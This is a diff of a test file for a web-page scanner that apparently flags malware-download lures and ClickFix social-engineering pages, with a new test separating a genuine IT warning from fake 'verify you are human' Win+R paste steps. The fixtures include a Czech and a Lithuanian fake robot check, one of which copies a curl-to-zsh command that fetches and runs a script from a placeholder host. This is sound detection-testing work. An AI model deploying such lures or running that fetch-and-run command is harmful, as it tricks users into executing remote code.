@@ -1492,6 +1492,12 @@ describe('analysis: signal rules', () => {
       decides('malware-lure-download', 'https://land-tax-app.example/download/', '<title>Land tax app</title><h1>Download the app to receive your tax refund</h1><a href="/download/LandTaxPlus_3.2.1.apk">Download app (Android)</a><p>Open the app, then enable the Accessibility service so the app can scan your face.</p>');
     });
 
+    it('Run-dialog steps and a human check a negation precedes are a warning: an IT help page saying it will never ask to paste into Win+R to verify you are human stays clean; the same words as steps are ClickFix', () => {
+      const kb = (warning: string) => `<title>KB1042: Fix DNS on campus Wi-Fi | Lakeview IT</title><h1>Fix "DNS server not responding"</h1><p>Open Command Prompt and run: ipconfig /flushdns</p><button onclick="navigator.clipboard.writeText('ipconfig /flushdns')">Copy</button><p>${warning}</p>`;
+      clean(judge('https://helpdesk.lakeview-college.example/kb/1042', kb('Security reminder: IT will never ask you to paste commands into the Run box (Win+R) to "verify you are human" or to fix a web page.')));
+      decides('clickfix-instructions', 'https://helpdesk.lakeview-college.example/kb/1042', kb('Security check: to "verify you are human", press Win+R, paste with Ctrl+V and press Enter.'));
+    });
+
     it('a fake check in Czech and Lithuanian ("Nejsem robot", "nesate robotas") beside Run or Terminal steps is ClickFix; a macOS command that decodes base64 into bash -c on the clipboard is a shell command; a real install page\'s copy button is not', () => {
       decides('clickfix-instructions', 'https://www.zahradnictvi-example.cz/', '<h1>Zahradnictví</h1><div class="cf"><p>Ověřte, že jste člověk.</p><label><input type="checkbox"> Nejsem robot</label><ol><li>Stiskněte klávesu ⊞ Win + R</li><li>Do okna Spustit vložte Ctrl + V</li><li>Potvrďte klávesou Enter</li></ol></div>');
       decides('clickfix-scripted-copy', 'https://www.receptai-example.lt/', '<h1>Cepelinai</h1><p>Patvirtinkite, kad nesate robotas</p><button id="b">Kopijuoti</button><script>document.getElementById("b").onclick=function(){navigator.clipboard.writeText("echo check && " + "/bin/zsh -c \\"$(curl -fsSL https://cdn-verify.example/i.sh)\\"")}</script>');
